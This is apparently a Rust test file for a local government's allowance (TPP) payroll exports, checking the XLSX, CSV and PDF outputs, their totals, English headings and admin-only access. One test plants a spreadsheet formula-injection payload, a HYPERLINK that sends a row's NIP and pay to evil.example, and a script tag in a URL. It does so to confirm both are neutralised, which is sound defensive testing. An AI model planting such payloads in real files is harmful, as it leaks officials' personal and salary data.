//! The quarter's exports (issue 5): the Daftar Nominatif TPP as XLSX and one OPD's Rekapitulasi
//! TPP as PDF, read back as a person (or payroll's spreadsheet) would. The exports read the
//! stored results of a run; the run itself is tested in `evaluation.rs`, so here the results are
//! stored directly, with amounts that differ per official and month. With the English cookie the
//! XLSX and the PDF are headed in English; the CSV's header is fixed.
use crate::common::{checked_pdf_text, TestApp};
use crate::DEMO_PW;
use app::format::rupiah;
use app::server::entities::{official, opd, tpp_result, tpp_run};
use app::server::tpp_recap_pdf::{head_of, render_recap, RecapDocument, RecapRow, RecapSigner};
use app::server::tpp_run::nominatif;
use http::StatusCode;
use sea_orm::{ActiveValue::Set, ColumnTrait, EntityTrait, QueryFilter};
use std::collections::BTreeMap;
use std::io::Read;
use uuid::Uuid;

crate::on_both_engines!(
    nominatif_xlsx_has_names_and_nips_as_text_and_the_sums,
    recap_pdf_lists_the_opd_and_is_signed_by_its_head,
    nominatif_csv_neutralises_formulas_in_names,
    nominatif_csv_for_indonesian_excel_uses_semicolons_and_a_bom,
);

const XLSX_TYPE: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// What was stored: DISPAR's officials (all of them paid), one official of another OPD, and
/// Σ gross of each.
struct Stored {
    dispar: Vec<official::Model>,
    other: official::Model,
    dispar_gross: i64,
    all_gross: i64,
}

/// The month `m` (0..3) of official `i`: (cut %, disiplin, faktor %, produktivitas, potongan,
/// bruto), computed the way the engine would, in whole Rupiah.
fn month_amounts(ceiling: i64, i: usize, m: usize) -> (&'static str, i64, &'static str, i64, i64, i64) {
    let (cut, cut_tenths) = [("0", 0), ("1.5", 15), ("4", 40)][(i + m) % 3];
    let (factor, f) = [("100", 100), ("90", 90), ("80", 80)][i % 3];
    let discipline = ceiling * 4 * (1000 - cut_tenths) / 10_000;
    let productivity = ceiling * 6 * f / 1000;
    let sanction = if i == 1 && m > 0 { (discipline + productivity) / 4 } else { 0 };
    (cut, discipline, factor, productivity, sanction, discipline + productivity - sanction)
}

/// Stores a TW II 2026 run for every active official of DISPAR and the first of DISKOMINFO.
async fn store_quarter(app: &TestApp) -> Stored {
    let unit = |code: &'static str| async move {
        opd::Entity::find().filter(opd::Column::Code.eq(code)).one(&app.db).await.unwrap().expect(code)
    };
    let (dispar, kominfo) = (unit("DISPAR").await, unit("DISKOMINFO").await);
    let members = |id: Uuid| async move {
        let mut v = official::Entity::find()
            .filter(official::Column::OpdId.eq(id))
            .filter(official::Column::Active.eq(true))
            .all(&app.db)
            .await
            .unwrap();
        v.sort_by(|a, b| a.name.cmp(&b.name));
        v
    };
    let dispar_officials = members(dispar.id).await;
    let other = members(kominfo.id).await.into_iter().next().expect("a DISKOMINFO official");
    assert!(dispar_officials.len() >= 5, "the demo DISPAR has a head, 2 administrators, 4 pengawas");
    let first_day = chrono::NaiveDate::from_ymd_opt(2026, 4, 1).unwrap();
    let policy = app::server::policy::in_force(&app.db, first_day).await.unwrap().expect("demo policy");
    let run_id = Uuid::new_v4();
    tpp_run::Entity::insert(tpp_run::ActiveModel {
        id: Set(run_id),
        year: Set(2026),
        quarter: Set(2),
        opd_id: Set(None),
        policy_id: Set(policy.id),
        status: Set("done".into()),
        started_at: Set(chrono::Utc::now()),
        finished_at: Set(Some(chrono::Utc::now())),
        run_by: Set(None),
        ..Default::default()
    })
    .exec(&app.db)
    .await
    .unwrap();
    let (mut dispar_gross, mut all_gross) = (0, 0);
    let mut results = Vec::new();
    for (i, o) in dispar_officials.iter().chain(std::iter::once(&other)).enumerate() {
        for m in 0..3 {
            let (cut, d, factor, p, s, g) = month_amounts(o.monthly_ceiling, i, m);
            all_gross += g;
            if o.opd_id == dispar.id {
                dispar_gross += g;
            }
            results.push(tpp_result::ActiveModel {
                id: Set(Uuid::new_v4()),
                run_id: Set(run_id),
                official_id: Set(o.id),
                year: Set(2026),
                month: Set(4 + m as i16),
                monthly_ceiling: Set(o.monthly_ceiling),
                discipline_cut_percent: Set(cut.into()),
                discipline: Set(d),
                productivity_factor: Set(factor.into()),
                productivity: Set(p),
                sanction_percent: Set(if s > 0 { "25" } else { "0" }.into()),
                sanction_cut: Set(s),
                gross: Set(g),
                policy_id: Set(policy.id),
                explanation: Set("disimpan oleh uji".into()),
                // Columns added later (score, predikat) keep their defaults.
                ..Default::default()
            });
        }
    }
    tpp_result::Entity::insert_many(results).exec(&app.db).await.unwrap();
    Stored { dispar: dispar_officials, other, dispar_gross, all_gross }
}

// ---- reading an XLSX back ----

#[derive(Debug, Clone, PartialEq)]
enum Value {
    /// A shared string (`t="s"`).
    Text(String),
    Number(f64),
    Blank,
}

#[derive(Debug, Clone)]
struct Cell {
    value: Value,
    formula: Option<String>,
}

fn unescape(s: &str) -> String {
    s.replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&")
}

/// The text between `<tag...>` and `</tag>` in `s`, if any.
fn element<'a>(s: &'a str, tag: &str) -> Option<&'a str> {
    let start = s.find(&format!("<{tag}"))?;
    let rest = &s[start..];
    let open_end = rest.find('>')?;
    if rest[..open_end].ends_with('/') {
        return Some("");
    }
    let body = &rest[open_end + 1..];
    Some(&body[..body.find(&format!("</{tag}>"))?])
}

fn attribute<'a>(tag: &'a str, name: &str) -> Option<&'a str> {
    let start = tag.find(&format!(" {name}=\""))? + name.len() + 3;
    Some(&tag[start..start + tag[start..].find('"')?])
}

/// "M12" → (row 12, column 12), both 1-based.
fn cell_ref(r: &str) -> (u32, u32) {
    let letters: String = r.chars().take_while(|c| c.is_ascii_alphabetic()).collect();
    let col = letters.bytes().fold(0u32, |acc, b| acc * 26 + u32::from(b - b'A' + 1));
    (r[letters.len()..].parse().unwrap(), col)
}

struct Sheet {
    /// (row, column), 1-based.
    cells: BTreeMap<(u32, u32), Cell>,
    xml: String,
    styles: String,
}

impl Sheet {
    fn read(bytes: &[u8]) -> Sheet {
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("an XLSX is a zip archive");
        let mut part = |name: &str| {
            let mut s = String::new();
            zip.by_name(name).unwrap_or_else(|e| panic!("{name}: {e}")).read_to_string(&mut s).unwrap();
            s
        };
        let (xml, shared, styles) =
            (part("xl/worksheets/sheet1.xml"), part("xl/sharedStrings.xml"), part("xl/styles.xml"));
        let strings: Vec<String> = shared
            .split("<si>")
            .skip(1)
            .map(|si| unescape(element(si, "t").expect("a shared string")))
            .collect();
        let mut cells = BTreeMap::new();
        for chunk in xml.split("<c ").skip(1) {
            // The space the split took, so every attribute is found by " name=".
            let tag = format!(" {}", &chunk[..chunk.find('>').unwrap()]);
            let at = cell_ref(attribute(&tag, "r").expect("cell reference"));
            let content = if tag.ends_with('/') { "" } else { &chunk[..chunk.find("</c>").unwrap()] };
            let v = element(content, "v");
            let value = match (attribute(&tag, "t"), v) {
                (Some("s"), Some(i)) => Value::Text(strings[i.parse::<usize>().unwrap()].clone()),
                (Some(t), _) => panic!("unexpected cell type {t} at {at:?}"),
                (None, Some(n)) => Value::Number(n.parse().unwrap()),
                (None, None) => Value::Blank,
            };
            cells.insert(at, Cell { value, formula: element(content, "f").map(unescape) });
        }
        Sheet { cells, xml, styles }
    }

    fn value(&self, row: u32, col: u32) -> Value {
        self.cells.get(&(row, col)).map(|c| c.value.clone()).unwrap_or(Value::Blank)
    }

    fn text(&self, row: u32, col: u32) -> String {
        match self.value(row, col) {
            Value::Text(t) => t,
            other => panic!("({row}, {col}) is not text: {other:?}"),
        }
    }

    fn number(&self, row: u32, col: u32) -> f64 {
        match self.value(row, col) {
            Value::Number(n) => n,
            other => panic!("({row}, {col}) is not a number: {other:?}"),
        }
    }

    /// Every text cell.
    fn texts(&self) -> Vec<String> {
        self.cells
            .values()
            .filter_map(|c| match &c.value {
                Value::Text(t) => Some(t.clone()),
                _ => None,
            })
            .collect()
    }
}

const HEADER_ROW: u32 = 3;
const FIRST_ROW: u32 = 4;
/// Disiplin Rp, Produktivitas Rp, Potongan, TPP bruto (1-based columns I, K, L, M).
const SUMMED: [u32; 4] = [9, 11, 12, 13];

async fn xlsx(app: &TestApp, query: &str, cookie: &str) -> (http::HeaderMap, Vec<u8>) {
    let r = app.get(&format!("/admin/tpp/nominatif.xlsx?{query}"), Some(cookie)).await;
    assert_eq!(r.status, StatusCode::OK, "{query}: {}", r.body);
    (r.headers, app.get_bytes(&format!("/admin/tpp/nominatif.xlsx?{query}"), Some(cookie)).await)
}

/// The XLSX has the CSV's columns, one row per stored month with NIPs as text and amounts as
/// numbers, a JUMLAH row equal to the sums, only the OPD asked for; non-admins are refused.
async fn nominatif_xlsx_has_names_and_nips_as_text_and_the_sums(db: crate::common::TestDb) {
    let app = TestApp::with_demo(db).await;
    let stored = store_quarter(&app).await;
    let admin = app.login("admin", DEMO_PW).await;
    let (headers, bytes) = xlsx(&app, "tahun=2026&tw=2&opd=DISPAR", &admin).await;
    assert_eq!(headers.get(http::header::CONTENT_TYPE).unwrap(), XLSX_TYPE);
    let disposition = headers.get(http::header::CONTENT_DISPOSITION).unwrap().to_str().unwrap();
    assert!(disposition.contains("nominatif-tpp-2026-tw2-dispar.xlsx"), "{disposition}");
    let sheet = Sheet::read(&bytes);

    assert!(sheet.text(1, 1).contains("DAFTAR NOMINATIF TPP TRIWULAN II TAHUN 2026"), "{}", sheet.text(1, 1));
    // The same columns as the CSV, in the same order.
    let rows = nominatif(&app.db, 2026, 2, Some("DISPAR")).await.unwrap();
    let csv = app::server::tpp_run::nominatif_csv(&rows);
    let csv_header: Vec<&str> = csv.lines().next().unwrap().split(',').collect();
    let header: Vec<String> = (1..=13).map(|c| sheet.text(HEADER_ROW, c)).collect();
    assert_eq!(header, csv_header);
    assert!(
        sheet.xml.contains("state=\"frozen\"") && sheet.xml.contains("topLeftCell=\"A4\""),
        "frozen header"
    );
    assert!(sheet.styles.contains("<b/>"), "a bold style");
    assert!(sheet.styles.contains("formatCode=\"#,##0\""), "Rupiah with thousands grouping");
    assert!(sheet.xml.contains("numberStoredAsText=\"1\""), "no warning on NIPs kept as text");

    // One row per stored month, as the service lists them.
    assert_eq!(rows.len(), stored.dispar.len() * 3);
    for (i, r) in rows.iter().enumerate() {
        let row = FIRST_ROW + i as u32;
        assert_eq!(sheet.text(row, 1), r.name);
        assert_eq!(sheet.text(row, 2), r.nip, "the NIP is text, all 18 digits");
        assert_eq!(sheet.number(row, 6), f64::from(r.month));
        assert_eq!(sheet.number(row, 7), r.ceiling as f64);
        assert_eq!(sheet.number(row, 9), r.discipline as f64);
        assert_eq!(sheet.number(row, 10), r.productivity_factor.parse::<f64>().unwrap());
        assert_eq!(sheet.number(row, 13), r.gross as f64);
    }
    let cut_row = rows.iter().position(|r| r.discipline_cut_percent == "1.5").expect("a 1,5% cut");
    assert_eq!(sheet.number(FIRST_ROW + cut_row as u32, 8), 98.5, "Disiplin % = 100 − cut");
    for o in &stored.dispar {
        let nip = o.nip.clone().expect("demo NIP");
        assert_eq!(nip.len(), 18);
        assert!(sheet.texts().contains(&o.name), "{} listed", o.name);
        assert!(sheet.texts().contains(&nip), "NIP {nip} as text");
    }
    // Column B holds text only: no NIP was turned into a number.
    assert!(sheet
        .cells
        .iter()
        .filter(|((r, c), _)| *c == 2 && *r >= FIRST_ROW)
        .all(|(_, c)| !matches!(c.value, Value::Number(_))));
    assert!(!sheet.texts().contains(&stored.other.name), "another OPD's official is not in DISPAR's list");

    // JUMLAH: the sums of the rows, cached in the SUM formulas.
    let total_row = FIRST_ROW + rows.len() as u32;
    assert_eq!(sheet.text(total_row, 1), "JUMLAH");
    for col in SUMMED {
        let sum: f64 = (FIRST_ROW..total_row).map(|r| sheet.number(r, col)).sum();
        assert_eq!(sheet.number(total_row, col), sum, "column {col}");
        let letter = char::from(b'A' + (col - 1) as u8);
        assert_eq!(
            sheet.cells[&(total_row, col)].formula.as_deref(),
            Some(format!("SUM({letter}{FIRST_ROW}:{letter}{})", total_row - 1).as_str())
        );
    }
    assert_eq!(sheet.number(total_row, 13), stored.dispar_gross as f64, "Σ bruto as stored");
    assert!(csv.lines().last().unwrap().ends_with(&format!(",{}", stored.dispar_gross)), "CSV agrees");
    assert!(stored.dispar_gross > 0 && sheet.number(total_row, 12) > 0.0, "a sanction cut is summed");

    // In English: title, headings and the totals row; the rows as they are. The CSV's header is
    // a documented contract and stays as it is.
    let english = format!("{admin}; pakta_lang=en");
    let (_, bytes) = xlsx(&app, "tahun=2026&tw=2&opd=DISPAR", &english).await;
    let en = Sheet::read(&bytes);
    assert_eq!(
        en.text(1, 1),
        "TPP NOMINATIVE LIST (DAFTAR NOMINATIF), Q2 2026, BATU CITY GOVERNMENT — OPD DISPAR"
    );
    let en_header: Vec<String> = (1..=13).map(|c| en.text(HEADER_ROW, c)).collect();
    assert_eq!(en_header[..3], ["Name", "NIP", "Position"]);
    assert_eq!(en_header[12], "Gross TPP");
    assert!(en.xml.contains("topLeftCell=\"A4\""), "frozen header");
    assert_eq!(en.text(FIRST_ROW, 1), rows[0].name);
    assert_eq!(en.text(total_row, 1), "TOTAL");
    assert_eq!(en.number(total_row, 13), stored.dispar_gross as f64);
    let r = app.get("/admin/tpp/nominatif.csv?tahun=2026&tw=2&opd=DISPAR", Some(&english)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.body.lines().next(), csv.lines().next(), "the CSV's header is the same in English");
    assert!(r.body.starts_with("Nama,NIP,Jabatan,"), "{}", r.body);

    // The page links both downloads and offers the recap of each OPD.
    let page = app.get("/admin/tpp?tahun=2026&tw=2", Some(&admin)).await;
    for s in [
        "href=\"/admin/tpp/nominatif.xlsx?tahun=2026&amp;tw=2\"",
        "Unduh XLSX",
        "action=\"/admin/tpp/rekap.pdf\"",
        "<option value=\"DISPAR\">Dinas Pariwisata</option>",
    ] {
        assert!(page.body.contains(s), "{s} on the page");
    }

    // All OPDs: the other official is there, and the total covers everyone.
    let (_, bytes) = xlsx(&app, "tahun=2026&tw=2", &admin).await;
    let all = Sheet::read(&bytes);
    assert!(all.texts().contains(&stored.other.name));
    let total_row = FIRST_ROW + (stored.dispar.len() as u32 + 1) * 3;
    assert_eq!(all.text(total_row, 1), "JUMLAH");
    assert_eq!(all.number(total_row, 13), stored.all_gross as f64);

    // A quarter without results still opens: header and a zero total.
    let (_, bytes) = xlsx(&app, "tahun=2026&tw=3", &admin).await;
    let empty = Sheet::read(&bytes);
    assert_eq!(empty.text(FIRST_ROW, 1), "JUMLAH");
    assert_eq!(empty.number(FIRST_ROW, 13), 0.0);

    // Bad input is a clear 400; other roles are refused, anonymous visitors sent to log in.
    let r = app.get("/admin/tpp/nominatif.xlsx?tahun=2026&tw=9", Some(&admin)).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.body.contains("Triwulan"), "{}", r.body);
    let r = app.get("/admin/tpp/nominatif.xlsx?tahun=2026&tw=2&opd=TIDAKADA", Some(&admin)).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.body.contains("TIDAKADA"), "{}", r.body);
    let me = app.login(stored.dispar[0].nip.as_deref().unwrap(), DEMO_PW).await;
    let dprd = app.login("dprd", DEMO_PW).await;
    for cookie in [&me, &dprd] {
        let r = app.get("/admin/tpp/nominatif.xlsx?tahun=2026&tw=2", Some(cookie)).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN);
        assert!(!r.body.contains(&stored.other.name));
    }
    let r = app.get("/admin/tpp/nominatif.xlsx?tahun=2026&tw=2", None).await;
    assert_eq!(r.location(), Some("/masuk"));
    app.finish().await;
}

/// An official named like a spreadsheet formula comes out of the CSV download as text (a leading
/// `'`, quoted), not as a live formula that would send the row's NIP and pay away (issue 14,
/// item 7); the amounts stay plain numbers.
async fn nominatif_csv_neutralises_formulas_in_names(db: crate::common::TestDb) {
    use sea_orm::ActiveModelTrait;
    let app = TestApp::with_demo(db).await;
    let stored = store_quarter(&app).await;
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&B2&G2,\"Klik\")";
    let mut renamed: official::ActiveModel = stored.dispar[0].clone().into();
    renamed.name = Set(evil.to_string());
    renamed.update(&app.db).await.unwrap();
    let mut position: official::ActiveModel = stored.dispar[1].clone().into();
    position.position_title = Set("@SUM(1+1)".to_string());
    position.update(&app.db).await.unwrap();

    let admin = app.login("admin", DEMO_PW).await;
    let r = app.get("/admin/tpp/nominatif.csv?tahun=2026&tw=2&opd=DISPAR", Some(&admin)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let nip = stored.dispar[0].nip.clone().unwrap();
    let line = r.body.lines().find(|l| l.contains(&nip)).unwrap_or_else(|| panic!("{nip} in {}", r.body));
    let cell = "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2&G2,\"\"Klik\"\")\"";
    assert!(line.starts_with(&format!("{cell},{nip},")), "{line}");
    // No cell of the file starts a formula (split at commas outside quotes).
    for line in r.body.lines() {
        let mut quoted = false;
        let mut start = true;
        for c in line.chars() {
            if start && !quoted {
                assert!(!matches!(c, '=' | '+' | '@'), "a live formula in {line}");
            }
            start = false;
            match c {
                '"' => quoted = !quoted,
                ',' if !quoted => start = true,
                _ => {}
            }
        }
    }
    let nip1 = stored.dispar[1].nip.clone().unwrap();
    let line = r.body.lines().find(|l| l.contains(&nip1)).unwrap();
    assert!(line.contains(&format!(",{nip1},\"'@SUM(1+1)\",")), "{line}");
    // The amounts are still numbers: the last cell of each row parses as one.
    let rows = nominatif(&app.db, 2026, 2, Some("DISPAR")).await.unwrap();
    let first = rows.iter().find(|r| r.nip == nip).unwrap();
    assert!(r.body.contains(&format!(",{}\n", first.gross)), "gross as a number");
    assert!(r.body.lines().last().unwrap().ends_with(&format!(",{}", stored.dispar_gross)));
    app.finish().await;
}

/// Issue 16: `?pemisah=titikkoma` lays the list out for Excel with Indonesian settings: a BOM,
/// `;` between cells, decimal commas, NIPs kept as text, CRLF; the same rows and sums as the
/// documented comma-separated file, which stays the default.
async fn nominatif_csv_for_indonesian_excel_uses_semicolons_and_a_bom(db: crate::common::TestDb) {
    let app = TestApp::with_demo(db).await;
    let stored = store_quarter(&app).await;
    let admin = app.login("admin", DEMO_PW).await;
    let plain = app.get("/admin/tpp/nominatif.csv?tahun=2026&tw=2&opd=DISPAR", Some(&admin)).await;
    let excel =
        app.get("/admin/tpp/nominatif.csv?tahun=2026&tw=2&opd=DISPAR&pemisah=titikkoma", Some(&admin)).await;
    assert_eq!(excel.status, StatusCode::OK, "{}", excel.body);
    assert!(plain.body.starts_with("Nama,NIP,"), "the default keeps its documented layout");
    let body = excel
        .body
        .strip_prefix('\u{feff}')
        .unwrap_or_else(|| panic!("a byte-order mark: {:?}", &excel.body[..20]));
    assert!(body.starts_with("Nama;NIP;Jabatan;Kelas;OPD;Bulan;Pagu;Disiplin %;"), "{body}");
    let lines: Vec<&str> = body.split_terminator("\r\n").collect();
    assert_eq!(lines.len(), plain.body.lines().count(), "the same rows");
    assert!(!body.replace("\r\n", "").contains('\n'), "every line ends in CRLF");
    let nip = stored.dispar[0].nip.clone().unwrap();
    let line = lines.iter().find(|l| l.contains(&nip)).unwrap();
    assert!(line.contains(&format!(";\"=\"\"{nip}\"\"\";")), "the NIP as text: {line}");
    // A percentage with a fraction is written with a decimal comma, never a point.
    assert!(
        lines
            .iter()
            .skip(1)
            .all(|l| !l.split(';').any(|cell| cell.parse::<f64>().is_ok() && cell.contains('.'))),
        "{body}"
    );
    assert!(lines.iter().any(|l| l.contains(";98,5;")), "a decimal comma (98,5 %): {body}");
    assert!(lines.last().unwrap().starts_with("JUMLAH;"));
    assert!(lines.last().unwrap().ends_with(&format!(";{}", stored.dispar_gross)));
    app.finish().await;
}

/// The text after the last occurrence of `marker`.
fn after_last<'a>(text: &'a str, marker: &str) -> &'a str {
    text.rfind(marker).map(|i| &text[i..]).unwrap_or_else(|| panic!("no {marker:?} in {text}"))
}

fn spaced(nip: &str) -> String {
    app::domain::Nip::parse(nip).unwrap().spaced()
}

/// One OPD's recap: a valid PDF naming the OPD, every official with their quarter total, the
/// totals row and the head of the OPD under the signature line; admin only.
async fn recap_pdf_lists_the_opd_and_is_signed_by_its_head(db: crate::common::TestDb) {
    let app = TestApp::with_demo(db).await;
    let stored = store_quarter(&app).await;
    let admin = app.login("admin", DEMO_PW).await;
    let path = "/admin/tpp/rekap.pdf?tahun=2026&tw=2&opd=dispar";
    let r = app.get(path, Some(&admin)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    assert_eq!(r.headers.get(http::header::CONTENT_TYPE).unwrap(), "application/pdf");
    let disposition = r.headers.get(http::header::CONTENT_DISPOSITION).unwrap().to_str().unwrap();
    assert!(disposition.contains("rekap-tpp-2026-tw2-dispar.pdf"), "{disposition}");
    let text = checked_pdf_text(&app.get_bytes(path, Some(&admin)).await, false);

    for s in ["PEMERINTAH KOTA BATU", "DINAS PARIWISATA", "REKAPITULASI TPP TRIWULAN II TAHUN 2026", "JUMLAH"]
    {
        assert!(text.contains(s), "{s} in\n{text}");
    }
    let rows = nominatif(&app.db, 2026, 2, Some("DISPAR")).await.unwrap();
    for o in &stored.dispar {
        let nip = o.nip.clone().unwrap();
        let quarter: i64 = rows.iter().filter(|r| r.nip == nip).map(|r| r.gross).sum();
        let line =
            text.lines().find(|l| l.contains(&o.name)).unwrap_or_else(|| panic!("{} in\n{text}", o.name));
        assert!(line.contains(&spaced(&nip)), "{line}");
        assert!(line.trim_end().ends_with(&rupiah(quarter)), "quarter total {} in {line}", rupiah(quarter));
    }
    assert!(!text.contains(&stored.other.name), "only DISPAR's officials");
    let totals = text.lines().find(|l| l.contains("JUMLAH")).unwrap();
    assert!(totals.trim_end().ends_with(&rupiah(stored.dispar_gross)), "{totals}");

    // Signed by the head of DISPAR (its JPT Pratama), after the place and date.
    let head = stored.dispar.iter().find(|o| o.position_kind == "jpt_pratama").expect("head of DISPAR");
    let today = chrono::Utc::now().with_timezone(&app::format::wib()).date_naive();
    let block = after_last(&text, &format!("Batu, {}", app::format::date_id(today)));
    for s in [
        head.position_title.as_str(),
        head.name.as_str(),
        &format!("NIP {}", spaced(head.nip.as_deref().unwrap())),
    ] {
        assert!(block.contains(s), "{s} in the signature block:\n{block}");
    }
    // In English: the headings, labels, date and page numbers; names, NIPs and amounts as they are.
    let english = format!("{admin}; pakta_lang=en");
    let en = checked_pdf_text(&app.get_bytes(path, Some(&english)).await, false);
    for s in [
        "BATU CITY GOVERNMENT",
        "DINAS PARIWISATA",
        "TPP RECAPITULATION, Q2 2026",
        "Gross TPP",
        "Total Q2",
        "Page 1 of",
    ] {
        assert!(en.contains(s), "{s} in\n{en}");
    }
    for s in ["REKAPITULASI", "JUMLAH", "TPP bruto", "Hal. "] {
        assert!(!en.contains(s), "{s} in the English recap");
    }
    let en_totals = en.lines().find(|l| l.contains("TOTAL")).expect("the totals row");
    assert!(en_totals.trim_end().ends_with(&rupiah(stored.dispar_gross)), "{en_totals}");
    let date = app::i18n::date_in(app::i18n::Lang::En, today);
    let block = after_last(&en, &format!("Batu, {date}"));
    assert!(block.contains(&head.name) && block.contains(&spaced(head.nip.as_deref().unwrap())), "{block}");

    // Every demo OPD has a head by the position hierarchy: the Wali Kota or someone outside the
    // OPD is their superior (the Sekretaris Daerah shares the Sekretariat with the Wali Kota).
    for unit in opd::Entity::find().all(&app.db).await.unwrap() {
        let members =
            official::Entity::find().filter(official::Column::OpdId.eq(unit.id)).all(&app.db).await.unwrap();
        let head = head_of(&members).unwrap_or_else(|| panic!("{} has a head", unit.name));
        assert_ne!(head.position_kind, "head_of_region");
        let boss = members.iter().find(|m| Some(m.id) == head.supervisor_id);
        assert!(
            boss.is_none_or(|b| b.position_kind == "head_of_region"),
            "{}: {} reports to {:?}",
            unit.name,
            head.position_title,
            boss.map(|b| &b.position_title)
        );
    }

    // Unknown OPD, missing OPD, a quarter without results: clear refusals.
    let r = app.get("/admin/tpp/rekap.pdf?tahun=2026&tw=2&opd=TIDAKADA", Some(&admin)).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND);
    assert!(r.body.contains("Tidak ada perangkat daerah berkode TIDAKADA"), "{}", r.body);
    let r = app.get("/admin/tpp/rekap.pdf?tahun=2026&tw=2", Some(&admin)).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    assert!(r.body.contains("Pilih perangkat daerah"), "{}", r.body);
    let r = app.get("/admin/tpp/rekap.pdf?tahun=2026&tw=3&opd=DISPAR", Some(&admin)).await;
    assert_eq!(r.status, StatusCode::CONFLICT);
    assert!(r.body.contains("Belum ada hasil perhitungan TPP TW III 2026"), "{}", r.body);
    // Issue 16, item 6: a browser gets the refusal as a page with the site's look, a heading that
    // says what happened and the way back; a program asking for the file gets the text alone.
    let content_type = r.headers.get("content-type").and_then(|v| v.to_str().ok()).unwrap_or("");
    assert!(content_type.starts_with("text/html"), "{content_type}");
    for part in ["<h1>Belum dapat dibuat</h1>", "href=\"/pkg/pakta.css\"", ">Kembali</a>"] {
        assert!(r.body.contains(part), "{part} in {}", r.body);
    }
    // What the link carries is shown as text, never as markup.
    let r =
        app.get("/admin/tpp/rekap.pdf?tahun=2026&tw=2&opd=%3Cscript%3Ex%3C%2Fscript%3E", Some(&admin)).await;
    assert!(r.status.is_client_error(), "{}", r.status);
    let body = r.body.to_lowercase();
    assert!(!body.contains("<script>") && body.contains("&lt;script&gt;"), "{}", r.body);
    let plain = app.get_bytes("/admin/tpp/rekap.pdf?tahun=2026&tw=3&opd=DISPAR", Some(&admin)).await;
    let plain = String::from_utf8(plain).unwrap();
    assert!(plain.starts_with("Belum ada hasil perhitungan TPP TW III 2026"), "{plain}");
    let me = app.login(head.nip.as_deref().unwrap(), DEMO_PW).await;
    let dprd = app.login("dprd", DEMO_PW).await;
    for cookie in [&me, &dprd] {
        assert_eq!(app.get(path, Some(cookie)).await.status, StatusCode::FORBIDDEN);
    }
    assert_eq!(app.get(path, None).await.location(), Some("/masuk"));
    app.finish().await;
}

/// A long recap breaks between rows, repeats the table header on every page, keeps each row
/// whole and ends with the totals and the signature.
#[test]
fn long_recap_breaks_between_rows_and_repeats_the_header() {
    let rows: Vec<RecapRow> = (0..70)
        .map(|i| RecapRow {
            name: format!("Pejabat Nomor {i:02}, S.E."),
            nip: format!("19800101 200501 1 {i:03}"),
            position: if i % 7 == 0 {
                "Kepala Sub Bagian Umum dan Kepegawaian pada Sekretariat yang namanya panjang sekali".into()
            } else {
                "Kepala Seksi".into()
            },
            months: [5_000_000 + i * 1_000, 5_100_000, 4_900_000],
        })
        .collect();
    let doc = RecapDocument {
        government: "PEMERINTAH KOTA BATU".into(),
        opd_name: "Dinas Pariwisata".into(),
        year: 2026,
        quarter: app::domain::tpp::Quarter::new(2).unwrap(),
        rows,
        place_date: "Batu, 1 Juli 2026".into(),
        signer: RecapSigner {
            heading: "Kepala Dinas Pariwisata".into(),
            name: "Drs. Kepala Dinas, M.Si.".into(),
            rank: "Pembina Utama Muda (IV/c)".into(),
            nip: "19680101 199003 1 001".into(),
        },
        lang: app::i18n::Lang::Id,
    };
    let fonts = app::server::pact_print::fonts().unwrap();
    let text = checked_pdf_text(&render_recap(&doc, fonts), false);
    let pages: Vec<&str> = text.split('\x0c').filter(|p| !p.trim().is_empty()).collect();
    assert!(pages.len() >= 3, "{} pages", pages.len());
    for (i, page) in pages.iter().enumerate() {
        assert!(page.contains(&format!("Hal. {} dari {}", i + 1, pages.len())), "footer on page {}", i + 1);
        if page.contains("Pejabat Nomor") {
            assert!(page.contains("Jabatan") && page.contains("Jumlah TW II"), "header on page {}", i + 1);
        }
    }
    for r in &doc.rows {
        let on: Vec<usize> = (0..pages.len()).filter(|p| pages[*p].contains(&r.name)).collect();
        assert_eq!(on.len(), 1, "{} on one page", r.name);
        assert!(pages[on[0]].contains(&rupiah(r.total())), "{}: its total on the same page", r.name);
    }
    let (_, total) = doc.totals();
    assert_eq!(total, doc.rows.iter().map(RecapRow::total).sum::<i64>());
    let last = pages.last().unwrap();
    assert!(text.contains(&rupiah(total)), "{}", rupiah(total));
    assert!(last.contains("Drs. Kepala Dinas, M.Si.") && last.contains("NIP 19680101 199003 1 001"));
    assert!(after_last(&text, "JUMLAH").contains("Batu, 1 Juli 2026"), "the signature follows the totals");
}
